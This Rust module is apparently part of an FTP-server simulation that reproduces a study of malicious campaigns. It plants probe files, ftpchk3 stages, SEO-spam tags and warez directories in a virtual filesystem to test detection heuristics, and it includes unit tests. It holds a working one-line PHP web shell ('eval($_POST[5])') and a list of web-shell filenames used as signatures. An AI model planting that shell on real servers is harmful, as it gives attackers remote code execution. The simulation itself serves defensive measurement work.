//! Malicious-campaign artifact injection (§VI).
//!
//! Each campaign plants the exact filenames/markers the paper describes;
//! the analysis crate detects them by the same heuristics the authors
//! used (name matching, co-location, directory-name signatures), so the
//! detection code path is genuinely exercised rather than fed labels.

use crate::content::GenScratch;
use crate::rates::Campaign;
use ftp_proto::listing::Permissions;
use rand::rngs::StdRng;
use rand::Rng;
use simvfs::{FileAttrs, Owner, Vfs};
use std::fmt;
use std::fmt::Write as _;

/// The ftpchk3 campaign's observable stages (§VI-B). Stage 4 is the
/// unknown final payload the paper could not observe; it never appears
/// on disk.
pub const FTPCHK3_STAGES: [&str; 3] = ["ftpchk3.txt", "ftpchk3.php", "ftpchk3.php.1"];

/// RAT filenames seeded by the reference-set campaigns.
pub const RAT_NAMES: &[&str] = &["x.php", "up.php", "shell.php", "sh3ll.php", "cmd.php"];

/// The one-line PHP RAT §VI-B quotes.
pub const RAT_ONELINER: &str = "<?php eval($_POST[5]);?>";

/// DDoS script names (§VI-B).
pub const DDOS_NAMES: [&str; 2] = ["history.php", "phzLtoxn.php"];

/// Holy Bible SEO campaign tag file (§VI-B).
pub const HOLY_BIBLE_TAG: &str = "Holy-Bible.html";

/// Keygen-service flier basenames (§VI-C).
pub const FLIER_NAMES: [&str; 2] = ["cool-cracking-service.pdf", "keygen-offer.ps"];

/// Draws the upload's mtime into `mtime_buf` and returns the attrs of
/// an anonymous-owned upload carrying `content`. `Copy`, so the repeat
/// store of the same probe reuses it without a clone.
fn uploaded<'a>(rng: &mut StdRng, content: &'a str, mtime_buf: &'a mut String) -> FileAttrs<'a> {
    mtime_buf.clear();
    let _ = write!(mtime_buf, "Jun {:2}  2015", rng.random_range(1..19));
    FileAttrs {
        size: content.len() as u64,
        perms: Permissions::public_file(),
        owner: Owner::Anonymous,
        mtime: mtime_buf,
        content: Some(content),
    }
}

/// Write-probe content variants the paper lists: "Anonymous", "test",
/// random characters, or a little base64. Random text renders into
/// `buf`; the other variants borrow statics.
fn probe_content<'a>(rng: &mut StdRng, buf: &'a mut String) -> &'a str {
    match rng.random_range(0..4) {
        0 => "Anonymous",
        1 => "test",
        2 => {
            buf.clear();
            for _ in 0..12 {
                buf.push((b'a' + rng.random_range(0..26u8)) as char);
            }
            buf
        }
        _ => "dGVzdCBwcm9iZQ==",
    }
}

/// A writable upload spot on the victim: the webroot when present, else
/// an incoming directory.
fn upload_spot(vfs: &Vfs) -> &'static str {
    if vfs.is_dir("/www") {
        "/www"
    } else {
        "/incoming"
    }
}

/// Plants one campaign's artifacts on `vfs`. The `unique_suffix` flag
/// mirrors the server's upload quirk: probe files then appear with
/// `.1`/`.2` suffixes, the §VI-A reference-set signal.
pub fn inject(
    vfs: &mut Vfs,
    rng: &mut StdRng,
    scratch: &mut GenScratch,
    campaign: Campaign,
    unique_suffix: bool,
) {
    let spot = upload_spot(vfs);
    // Split the scratch so the upload path, its mtime, and generated
    // probe text borrow independently.
    let GenScratch { path, mtime, text, .. } = scratch;
    let mut put =
        |vfs: &mut Vfs, rng: &mut StdRng, name: fmt::Arguments<'_>, content: &str| {
            let attrs = uploaded(rng, content, mtime);
            path.set(spot);
            path.push_fmt(name);
            if unique_suffix {
                let _ = vfs.store_unique(path.as_str(), attrs);
                // Repeat probes are what create the suffix trail.
                if rng.random_bool(0.5) {
                    let _ = vfs.store_unique(path.as_str(), attrs);
                }
            } else {
                let _ = vfs.add_file(path.as_str(), attrs);
            }
            path.pop();
        };
    match campaign {
        Campaign::ProbeW0t => {
            let ext = if rng.random_bool(0.5) { "txt" } else { "php" };
            let c = probe_content(rng, text);
            put(vfs, rng, format_args!("w0000000t.{ext}"), c);
        }
        Campaign::ProbeSjutd => {
            let c = probe_content(rng, text);
            put(vfs, rng, format_args!("sjutd.txt"), c);
        }
        Campaign::ProbeHelloWorld => {
            let c = probe_content(rng, text);
            put(vfs, rng, format_args!("hello.world.txt"), c);
        }
        Campaign::Ftpchk3 => {
            // Victims are found in various stages of infection.
            let stage = rng.random_range(1..=3usize);
            let contents = ["probe", "<?php echo 'OK'; ?>", "<?php phpinfo(); /*CMS scan*/ ?>"];
            for (i, name) in FTPCHK3_STAGES.iter().take(stage).enumerate() {
                put(vfs, rng, format_args!("{name}"), contents[i]);
            }
        }
        Campaign::Rat => {
            let n = rng.random_range(1..=4usize);
            for _ in 0..n {
                let name = RAT_NAMES[rng.random_range(0..RAT_NAMES.len())];
                // Spread across the filesystem to hit the web root.
                path.set(spot);
                if !rng.random_bool(0.6) {
                    path.push("app");
                }
                path.push(name);
                let attrs = uploaded(rng, RAT_ONELINER, mtime);
                let _ = vfs.add_file(path.as_str(), attrs);
            }
        }
        Campaign::Ddos => {
            let name = DDOS_NAMES[rng.random_range(0..2usize)];
            put(
                vfs,
                rng,
                format_args!("{name}"),
                "<?php $t=$_GET['t']; $p=$_GET['p']; /* 65kB UDP flood loop */ ?>",
            );
        }
        Campaign::HolyBible => {
            put(vfs, rng, format_args!("{HOLY_BIBLE_TAG}"), "<html><!-- holy bible seo --></html>");
            // The campaign injects hrefs into existing web files and
            // deletes archives; model the tag plus an infected index.
            if vfs.exists("/www") {
                let attrs = uploaded(rng, "<?php /* injected href farm */ ?>", mtime);
                let _ = vfs.add_file("/www/index.php", attrs);
            }
        }
        Campaign::KeygenFlier => {
            for name in FLIER_NAMES {
                put(
                    vfs,
                    rng,
                    format_args!("{name}"),
                    "Really cool software cracking service. $300-$500. Bitmessage.",
                );
            }
        }
        Campaign::Warez => {
            // Dated transport directories: YYMMDD + 6-digit time + 'p'.
            let n = rng.random_range(1..=5usize);
            for _ in 0..n {
                path.set(spot);
                path.push_fmt(format_args!(
                    "{:02}{:02}{:02}{:02}{:02}{:02}p",
                    rng.random_range(10..16),
                    rng.random_range(1..13),
                    rng.random_range(1..29),
                    rng.random_range(0..24),
                    rng.random_range(0..60),
                    rng.random_range(0..60),
                ));
                let _ = vfs.mkdir_p(path.as_str());
                // Many observed directories were already emptied (§VI-C).
                if rng.random_bool(0.35) {
                    path.push_fmt(format_args!("release.r{:02}", rng.random_range(0..30)));
                    let attrs = FileAttrs {
                        perms: Permissions::public_file(),
                        ..uploaded(rng, "warez blob", mtime)
                    };
                    let _ = vfs.add_file(path.as_str(), attrs);
                    path.pop();
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn base() -> Vfs {
        let mut v = Vfs::new();
        v.mkdir_p("/incoming").unwrap();
        v
    }

    fn inject_one(v: &mut Vfs, seed: u64, campaign: Campaign, unique_suffix: bool) {
        inject(v, &mut StdRng::seed_from_u64(seed), &mut GenScratch::default(), campaign, unique_suffix);
    }

    /// Walks the tree into owned `(path, is_dir)` pairs for assertions.
    fn walked(vfs: &Vfs) -> Vec<(String, bool)> {
        let mut out = Vec::new();
        vfs.walk(|p, n| out.push((p.to_owned(), n.is_dir())));
        out
    }

    #[test]
    fn probes_land_with_expected_names() {
        for (campaign, needle) in [
            (Campaign::ProbeW0t, "w0000000t."),
            (Campaign::ProbeSjutd, "sjutd.txt"),
            (Campaign::ProbeHelloWorld, "hello.world.txt"),
        ] {
            let mut v = base();
            inject_one(&mut v, 1, campaign, false);
            assert!(
                walked(&v).iter().any(|(p, _)| p.contains(needle)),
                "{campaign:?} missing {needle}"
            );
        }
    }

    #[test]
    fn unique_suffix_leaves_reference_trail() {
        let mut v = base();
        // Seed chosen arbitrarily; the 0.5 repeat coin means we try a few.
        let mut found_suffix = false;
        for seed in 0..10 {
            let mut v2 = base();
            inject_one(&mut v2, seed, Campaign::ProbeSjutd, true);
            inject_one(&mut v2, seed + 100, Campaign::ProbeSjutd, true);
            if v2.exists("/incoming/sjutd.txt.1") {
                found_suffix = true;
                v = v2;
                break;
            }
        }
        assert!(found_suffix, "repeat probes create .1 suffixes");
        assert!(v.exists("/incoming/sjutd.txt"));
    }

    #[test]
    fn ftpchk3_stages_are_cumulative() {
        let mut any_multi = false;
        for seed in 0..20 {
            let mut v = base();
            inject_one(&mut v, seed, Campaign::Ftpchk3, false);
            assert!(v.exists("/incoming/ftpchk3.txt"), "stage 1 always present");
            if v.exists("/incoming/ftpchk3.php") {
                any_multi = true;
            }
        }
        assert!(any_multi, "later stages occur");
    }

    #[test]
    fn rats_carry_the_oneliner() {
        let mut v = base();
        inject_one(&mut v, 3, Campaign::Rat, false);
        let rat = walked(&v)
            .into_iter()
            .find(|(p, is_dir)| !is_dir && RAT_NAMES.iter().any(|r| p.ends_with(r)));
        let (path, _) = rat.expect("a RAT file landed");
        assert_eq!(v.file(&path).unwrap().content, Some(RAT_ONELINER));
    }

    #[test]
    fn warez_dirs_match_signature() {
        let mut v = base();
        inject_one(&mut v, 5, Campaign::Warez, false);
        let dirs: Vec<String> = walked(&v)
            .into_iter()
            .filter(|(_, is_dir)| *is_dir)
            .map(|(p, _)| p)
            .collect();
        let sig = dirs.iter().any(|p| {
            let name = p.rsplit('/').next().unwrap_or("");
            name.len() == 13 && name.ends_with('p') && name[..12].chars().all(|c| c.is_ascii_digit())
        });
        assert!(sig, "{dirs:?}");
    }

    #[test]
    fn holy_bible_tag_lands() {
        let mut v = base();
        inject_one(&mut v, 9, Campaign::HolyBible, false);
        assert!(walked(&v).iter().any(|(p, _)| p.ends_with(HOLY_BIBLE_TAG)));
    }

    #[test]
    fn uploads_are_owned_by_anonymous() {
        let mut v = base();
        inject_one(&mut v, 2, Campaign::Ddos, false);
        let (path, _) = walked(&v)
            .into_iter()
            .find(|(p, is_dir)| !is_dir && DDOS_NAMES.iter().any(|d| p.ends_with(d)))
            .expect("ddos script present");
        assert_eq!(v.file(&path).unwrap().owner, Owner::Anonymous);
    }
}
